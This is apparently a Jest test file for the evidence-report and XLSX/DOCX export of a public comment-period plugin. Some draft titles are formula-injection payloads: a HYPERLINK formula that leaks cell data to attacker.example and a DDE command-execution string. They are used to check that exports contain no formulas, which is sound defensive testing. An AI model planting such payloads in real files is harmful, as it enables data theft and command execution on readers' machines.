import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import readWorkbook from 'read-excel-file/node'
import { dayOf } from '../../plugins/comment-period/domain/calendar-day'
import { solarFromDay } from '../../plugins/comment-period/domain/solar-hijri'
import { bootFresh, type Answer, type Json, type TestApp } from '../support/app'
import {
  aBriefDocket,
  aComment,
  aDraft,
  aMember,
  aRule,
  aSubject,
  databaseNow,
  docketOf,
  documents,
  publish,
  signUp,
  submit,
  untilDatabaseReaches,
  type Staff,
  type Subject,
} from '../support/docket-builders'
import { assignmentRow, T } from '../support/ledger-rows'
import { parsedXml, statedSheets, statedTables, unzipped, wordText } from '../support/office-files'
import { expectRefusal } from '../support/problems'

const reason = 'آزمون'
const DAY_MS = 86_400_000
/** What a spreadsheet would run, if it were let. */
const TITLES = {
  kept: '=HYPERLINK("https://attacker.example/?leak="&A1,"پیش‌نویس")',
  issued: "=cmd|' /C calc'!A0",
  extended: '@SUM(A1:A9)',
  suspended: '-2+3',
  withdrawn: '\u200f=1+1',
} as const
type Name = keyof typeof TITLES

let app: TestApp
let subject: Subject
let manager: Staff
let legal: Staff
const made = {} as Record<Name, { documentId: string; docket: string }>
const filed: Record<string, string> = {}

const act = (name: Name, what: string, body: object) =>
  done(legal.call('POST', `/comment-period/drafts/${made[name].documentId}/${what}`, body))

async function done(answered: Promise<Answer>): Promise<Json> {
  const { status, body } = await answered
  expect([status < 300, body.code]).toEqual([true, undefined])
  return body
}

const evidence = async (query = '', staff = legal): Promise<Json> =>
  done(staff.call('GET', `/comment-period/evidence?body=${subject.slug}${query}`))

const reportOf = async (query = ''): Promise<Json> => (await evidence(query)).report as Json

const rowOf = (report: Json, name: Name): Json =>
  (report.drafts as Json[]).find(({ docket }) => docket === made[name].docket)!

beforeAll(async () => {
  app = await bootFresh()
  subject = await aSubject(app)
  manager = await aMember(app, subject)
  legal = await aMember(app, subject, 'legal')
  await makeDockets()
  await makeComments()
})
afterAll(() => app.stop())

async function makeDockets(): Promise<void> {
  for (const name of ['kept', 'issued'] as const) {
    const brief = await aBriefDocket(app, 60, subject, { title: TITLES[name] })
    made[name] = brief
    await untilDatabaseReaches(app, brief.closesAt)
  }
  // The brief ones are of a kind that no rule binds.
  const kind = await documents(app, 'instrument-kind').create({
    data: { key: `${subject.kindKey}ruled`, name: 'آیین‌نامه', terminalAct: 'promulgate' },
  })
  await aRule(app, subject, { kinds: [kind.documentId] })
  for (const name of ['extended', 'suspended', 'withdrawn'] as const) {
    const documentId = await aDraft(app, subject, { title: TITLES[name], kind: kind.documentId })
    await publish(app, documentId)
    made[name] = { documentId, docket: await docketOf(app, documentId) }
  }
  await act('extended', 'extend', { lastDayOn: '1406/01/20', ground: 'request', reason })
  await act('suspended', 'suspend', { ground: 'outage', reason })
  await act('withdrawn', 'withdraw', { reason })
  await issueChanged()
}

/** Issues with a title, a clause and an order that are not those of the exposed text. */
async function issueChanged(): Promise<void> {
  const { documentId } = made.issued
  const draft = await documents(app, 'draft-regulation').findOne({ documentId, locale: 'fa' })
  const [first, second] = draft!.clauses as Json[]
  await documents(app, 'draft-regulation').update({
    documentId,
    locale: 'fa',
    data: {
      title: 'عنوان نهایی',
      clauses: [{ kind: 'article', text: 'ماده تازه.' }, { ...first, text: 'متن دیگر.' }, second],
    },
  })
  await act('issued', 'issue', { reason, letterNumber: '۱۲' })
}

/** One response is one to a theme that the comment is under, and counts like any other. */
async function answerThroughTheme(publicId: string): Promise<void> {
  await act('extended', 'themes', { title: 'محور', reason })
  await act('extended', 'themes/1/placements', { publicIds: [publicId], act: 'placed', reason })
  const themes = `/comment-period/drafts/${made.extended.documentId}/themes`
  const answer = { text: 'پاسخ به محور', disposition: 'accepted', reason }
  await done(manager.call('POST', `${themes}/1/responses`, answer))
}

async function makeComments(): Promise<void> {
  const file = async (name: string, fields: Json = {}) => {
    const comment = aComment({ name: 'مینا', ...fields })
    const { status, body } = await submit(app, made.extended.docket, comment)
    expect(status).toBe(201)
    filed[name] = String(body.publicId)
  }
  const names = [
    'none',
    'inTime',
    'late',
    'overdue',
    'waiting',
    'undated',
    'moved',
    'twice',
    'spam',
    'erased',
  ]
  for (const name of names) {
    await file(name, { type: name === 'none' ? 'criticism' : 'suggestion' })
  }
  const screening = { publicIds: [filed.none], state: 'published', reason }
  await done(manager.call('POST', '/comment-period/screenings', screening))
  for (const name of ['inTime', 'waiting', 'moved']) await assign(filed[name]!, '1410/01/20')
  for (const name of ['late', 'overdue', 'spam', 'erased']) await dueYesterday(filed[name]!)
  const spam = { publicIds: [filed.spam], state: 'spam', reason }
  await done(manager.call('POST', '/comment-period/screenings', spam))
  for (const name of ['late', 'undated', 'moved']) {
    await respond(filed[name]!, name === 'late' ? 'partly-accepted' : 'accepted')
  }
  await answerThroughTheme(filed.inTime!)
  // In time by what was then due, whatever became due afterwards.
  await untilDatabaseReaches(app, (await databaseNow(app)) + 1)
  await dueYesterday(filed.moved!)
  await respond(filed.twice!, 'accepted')
  await respond(filed.twice!, 'rejected')
  for (const name of ['undated', 'erased']) {
    const erasure = `/comment-period/comments/${filed[name]!}/erasure`
    await done(manager.call('POST', erasure, { basis: 'حکم' }))
    await done(legal.call('POST', `${erasure}/approval`, { n: 1 }))
  }
}

const assign = (publicId: string, dueOn: string) =>
  done(
    manager.call('POST', '/comment-period/assignments', { publicIds: [publicId], dueOn, reason }),
  )

const respond = (publicId: string, disposition: string) =>
  done(
    manager.call('POST', `/comment-period/comments/${publicId}/response`, {
      text: 'پاسخ',
      disposition,
      reason,
    }),
  )

async function dueYesterday(publicId: string): Promise<void> {
  const row = { public_id: publicId }
  const comment = (await app.knex(T('public_comments')).where(row).first()) as {
    document_id: string
    due_at: number | null
  }
  const due = (await databaseNow(app)) - DAY_MS
  await app.knex(T('assignments')).insert(
    await assignmentRow(app, comment.document_id, {
      to_unit: null,
      from_due_at: comment.due_at,
      to_due_at: due,
    }),
  )
  await app.knex(T('public_comments')).where(row).update({ due_at: due })
}

describe('the evidence of a body', () => {
  test('is, where nothing else is asked, of the Solar Hijri year that runs', async () => {
    const { bodies, report } = await evidence()
    expect(bodies).toEqual([{ slug: subject.slug, name: 'سازمان آزمون' }])
    const { year } = solarFromDay(dayOf(await databaseNow(app), 'Asia/Tehran'))
    expect([report.from, report.to].map((day: string) => solarFromDay(day))).toMatchObject([
      { year, month: 1, day: 1 },
      { year, month: 12 },
    ])
    expect(report).toMatchObject({
      format: 'evidence-report/1',
      zone: 'Asia/Tehran',
      body: { slug: subject.slug, letterheadLines: ['سازمان آزمون'] },
    })
    expect(Math.abs(Date.parse(report.at) - (await databaseNow(app)))).toBeLessThan(DAY_MS)
  })

  test('counts the drafts that were exposed, and how their periods stood', async () => {
    const { totals } = await reportOf()
    expect(totals).toMatchObject({
      drafts: 5,
      exposures: 5,
      waived: 0,
      standings: {
        kept: 0,
        short: 0,
        replaced: 0,
        withdrawn: 1,
        'no-minimum': 2,
        open: 1,
        suspended: 1,
      },
      extended: 1,
      suspended: 1,
      withdrawn: 1,
      issued: 1,
      changedTexts: 1,
      clauses: { changed: 1, added: 1, removed: 1, moved: 0 },
      attachments: 0,
    })
  })

  test('counts comments by type, channel and state, the erased ones too, and spam by state', async () => {
    const { totals } = await reportOf()
    expect(totals).toMatchObject({
      comments: 10,
      byChannel: [{ key: 'api', n: 9 }],
      byType: [
        { key: 'suggestion', n: 8 },
        { key: 'criticism', n: 1 },
      ],
      byState: [
        { key: 'received', n: 8 },
        { key: 'published', n: 1 },
        { key: 'spam', n: 1 },
      ],
    })
  })

  test('tells responses in time from late ones by what was due when they were given', async () => {
    const { totals } = await reportOf()
    expect(totals.responses).toEqual({
      'in-time': 2,
      late: 1,
      undated: 2,
      overdue: 1,
      waiting: 1,
      none: 1,
      // The spam, and what was erased before it had a response.
      unwanted: 2,
    })
    expect(totals.byDisposition).toEqual([
      { key: 'accepted', n: 3 },
      { key: 'partly-accepted', n: 1 },
      { key: 'rejected', n: 1 },
    ])
  })

  test('has a row for each draft', async () => {
    const report = await reportOf()
    expect(rowOf(report, 'kept')).toMatchObject({
      title: TITLES.kept,
      kind: { name: 'x' },
      exposures: 1,
      standing: 'no-minimum',
      minimumMs: null,
      stoodMs: 60,
      comments: 0,
      act: null,
      changes: null,
    })
    expect(rowOf(report, 'issued')).toMatchObject({
      title: TITLES.issued,
      standing: 'no-minimum',
      act: { terminalAct: 'promulgate' },
      changes: { title: true, changed: 1, added: 1, removed: 1, moved: 0, attachments: 0 },
    })
    const extended = rowOf(report, 'extended')
    expect(extended).toMatchObject({
      kind: { name: 'آیین‌نامه' },
      standing: 'open',
      isExtended: true,
      comments: 10,
      accepted: 3,
      partlyAccepted: 1,
    })
    expect(extended.minimumMs).toBeGreaterThanOrEqual(14 * DAY_MS)
    expect(extended.stoodMs).toBeLessThan(extended.minimumMs as number)
    expect(rowOf(report, 'suspended')).toMatchObject({ standing: 'suspended', closesAt: null })
    expect(rowOf(report, 'withdrawn')).toMatchObject({ standing: 'withdrawn', isWithdrawn: true })
  })

  test('is of a span by its first and its last day, in either calendar and any digits', async () => {
    const openedAt = Date.parse(String(rowOf(await reportOf(), 'kept').openedAt))
    const day = (ms: number) => dayOf(openedAt + ms, 'Asia/Tehran')
    const drafts = async (from: string, to: string) =>
      (await reportOf(`&from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`)).totals
        .drafts as number
    expect(await drafts(day(0), day(DAY_MS))).toBe(5)
    expect(await drafts(day(0), day(0))).toBeGreaterThan(0)
    expect(await drafts(day(-9 * DAY_MS), day(-DAY_MS))).toBe(0)
    expect(await drafts(day(DAY_MS), day(9 * DAY_MS))).toBe(0)
    expect(await drafts('۱۴۰۴/۰۱/۰۱', day(DAY_MS))).toBe(5)
  })

  test('of a span in which nothing happened is made of noughts', async () => {
    const { totals, drafts } = await reportOf('&from=1400/01/01&to=1400/12/29')
    expect(drafts).toEqual([])
    const numbers = (value: unknown): number[] =>
      typeof value === 'number' ? [value] : Object.values(value as object).flatMap(numbers)
    expect(new Set(numbers(totals))).toEqual(new Set([0]))
    expect(totals.byChannel).toEqual([])
  })

  test('counts decisions not to expose beside the drafts', async () => {
    const other = await aSubject(app)
    const staff = await aMember(app, other)
    const documentId = await aDraft(app, other)
    await done(
      staff.call('POST', `/comment-period/drafts/${documentId}/waive`, {
        decidedBy: 'رئیس',
        reason,
      }),
    )
    const { report } = (await staff.call('GET', '/comment-period/evidence')).body as Json
    expect(report).toMatchObject({ totals: { drafts: 0, waived: 1 }, drafts: [] })
  })

  test('counts comments stretch by stretch, however many there are', async () => {
    const other = await aSubject(app)
    const staff = await aMember(app, other)
    await aRule(app, other)
    const documentId = await aDraft(app, other)
    await publish(app, documentId)
    const docket = await docketOf(app, documentId)
    const many = 1_050
    for (let sent = 0; sent < many; sent += 50) {
      const answers = await Promise.all(Array.from({ length: 50 }, () => submit(app, docket)))
      expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([201]))
    }
    const { report } = (await staff.call('GET', '/comment-period/evidence')).body as Json
    expect(report.totals).toMatchObject({ comments: many, byType: [{ n: many }] })
  })
})

describe('the evidence is refused', () => {
  test.each([
    ['from=x', 400, 'DATE_UNREADABLE'],
    ['from=1404/12/30', 400, 'DATE_DOES_NOT_EXIST'],
    ['to=2026-02-30', 400, 'DATE_DOES_NOT_EXIST'],
    ['from=1405/01/02&to=1405/01/01', 400, 'SPAN_BACKWARDS'],
    ['from=1400/01/01&to=1405/01/01', 400, 'SPAN_TOO_LONG'],
    ['until=1405/01/01', 400, 'INPUT_INVALID'],
  ] as const)('for %s', async (query, status, code) => {
    for (const path of ['/evidence?', '/evidence/file?format=xlsx&']) {
      const asked = `/comment-period${path}body=${subject.slug}&${query}`
      expectRefusal(await legal.call('GET', asked), status, code)
    }
  })

  test('for a body that is none, for one of others, and to those who may not read it', async () => {
    const stranger = await aMember(app, await aSubject(app))
    const screener = await aMember(app, subject, 'screener')
    const withoutPermission = await signUp(app, 'strapi-editor')
    await done(
      manager.call('POST', '/comment-period/memberships', {
        adminUserId: withoutPermission.id,
        bodySlug: subject.slug,
        role: 'legal',
        reason,
      }),
    )
    for (const path of ['/evidence?', '/evidence/file?format=docx&']) {
      const asked = `/comment-period${path}body=${subject.slug}`
      const none = `/comment-period${path}body=nobody`
      expectRefusal(await legal.call('GET', none), 404, 'BODY_UNKNOWN')
      expectRefusal(await stranger.call('GET', asked), 403, 'NOT_A_MEMBER')
      expectRefusal(await screener.call('GET', asked), 403, 'NOT_A_MEMBER')
      expectRefusal(await withoutPermission.call('GET', asked), 403, 'FORBIDDEN')
      expectRefusal(await app.call('GET', asked), 401, 'UNAUTHENTICATED')
    }
  })

  test('in silence where whoever asks has no body', async () => {
    const nobody = await signUp(app)
    const answer = await nobody.call('GET', '/comment-period/evidence')
    expect([answer.status, answer.body]).toEqual([200, { bodies: [], report: null }])
  })

  test('as a file without a body or a format, or in another one', async () => {
    for (const query of [
      'format=xlsx',
      `body=${subject.slug}`,
      `body=${subject.slug}&format=csv`,
    ]) {
      const answer = await legal.call('GET', `/comment-period/evidence/file?${query}`)
      expectRefusal(answer, 400, 'INPUT_INVALID')
    }
  })
})

describe('the file of a report', () => {
  async function fileOf(format: string, query = ''): Promise<{ bytes: Buffer; name: string }> {
    const asked = `/comment-period/evidence/file?body=${subject.slug}&format=${format}${query}`
    const answer = await fetch(`${app.url}${asked}`, {
      headers: { Authorization: `Bearer ${legal.token}` },
    })
    expect(answer.status).toBe(200)
    expect(answer.headers.get('cache-control')).toBe('no-store')
    const disposition = answer.headers.get('content-disposition') ?? ''
    const [, name = ''] = /filename="([^"]+)"/.exec(disposition) ?? []
    return { bytes: Buffer.from(await answer.arrayBuffer()), name }
  }

  test('is a workbook that a reader of another house reads, with the figures of the report', async () => {
    const { bytes, name } = await fileOf('xlsx')
    const { year } = solarFromDay(dayOf(await databaseNow(app), 'Asia/Tehran'))
    expect(name).toMatch(/-12-(29|30)\.xlsx$/)
    expect(name.startsWith(`evidence_${subject.slug}_${String(year)}-01-01_`)).toBe(true)
    const sheets = await readWorkbook(bytes, { trim: false })
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['درباره', 'خلاصه', 'پیش‌نویس‌ها'])
    const [about, summary, drafts] = sheets.map(({ data }) => data)
    expect(about!.flat()).toEqual(
      expect.arrayContaining(['سازمان آزمون', 'گزارش شواهد مشارکت: سازمان آزمون']),
    )
    const figures = new Map(summary!.map(([heading, what, n]) => [[heading, what].join('/'), n]))
    expect(figures.get('پیش‌نویس‌ها/پیش‌نویس‌های منتشرشده برای نظرخواهی')).toBe(5)
    expect(figures.get('مهلت نظرخواهی/پایان‌یافته، بدون قاعده')).toBe(2)
    expect(figures.get('پاسخ‌ها/پاسخ در موعد')).toBe(2)
    expect(figures.get('نظرها بر پایه راه دریافت/پیامک')).toBe(0)
    const [headings, ...rows] = drafts!
    const column = (heading: string) => rows.map((row) => row[headings!.indexOf(heading)])
    expect(new Set(column('عنوان'))).toEqual(new Set(Object.values(TITLES)))
    expect(column('پرونده').sort()).toEqual(
      Object.values(made)
        .map(({ docket }) => docket)
        .sort(),
    )
    expect(column('آغاز مهلت')[0]).toMatch(/^[۰-۹]{4}\/[۰-۹]{2}\/[۰-۹]{2} [۰-۹:]{8}$/)
    expect(column('آغاز مهلت (جهانی)')[0]).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/)
    expect(column('نظرها').reduce((sum: number, n) => sum + Number(n), 0)).toBe(10)
  })

  test('has no formula in any cell, and shows its headings while one scrolls, from right to left', async () => {
    const sheets = await statedSheets((await fileOf('xlsx')).bytes)
    expect(sheets.flatMap(({ rows }) => rows.flat()).some(({ hasFormula }) => hasFormula)).toBe(
      false,
    )
    for (const { xml } of sheets) {
      expect(xml.getElementsByTagName('sheetView')[0]?.getAttribute('rightToLeft')).toBe('1')
    }
    for (const { xml } of sheets.slice(1)) {
      const pane = xml.getElementsByTagName('pane')[0]
      expect([pane?.getAttribute('ySplit'), pane?.getAttribute('state')]).toEqual(['1', 'frozen'])
    }
  })

  test('is a text of Word with letterhead, facts and both tables', async () => {
    const { bytes, name } = await fileOf('docx')
    expect(name).toMatch(/\.docx$/)
    const document = parsedXml((await unzipped(bytes)).get('word/document.xml'))
    const [facts, summary, drafts] = statedTables(document)
    expect(Object.fromEntries(facts!)).toMatchObject({
      دستگاه: 'سازمان آزمون',
      'بازه گزارش': expect.stringMatching(/^از .+ تا پایان .+$/),
      'زمان گزارش (جهانی)': expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    })
    expect(summary).toContainEqual(['پاسخ‌ها', 'پاسخ پس از موعد', '۱'])
    const titles = drafts!.slice(1).map(([, title]) => title!.split('\n')[0])
    expect(new Set(titles)).toEqual(new Set(Object.values(TITLES)))
    expect(drafts!.flat().join('\n')).toContain('بخش‌های تغییرکرده: ۱')
    expect(wordText(document.documentElement)).toContain('سازمان آزمون')
  })

  test('is in English where that is asked for, and of the span that was asked for', async () => {
    const { bytes, name } = await fileOf('xlsx', '&language=en&from=1400/01/01&to=1400/12/29')
    expect(name).toBe(`evidence_${subject.slug}_1400-01-01_1400-12-29.xlsx`)
    const sheets = await readWorkbook(bytes)
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['About', 'Summary', 'Drafts'])
    expect(sheets[1]!.data.slice(1).every(([, , n]) => n === 0)).toBe(true)
    expect(sheets[2]!.data).toHaveLength(1)
  })
})
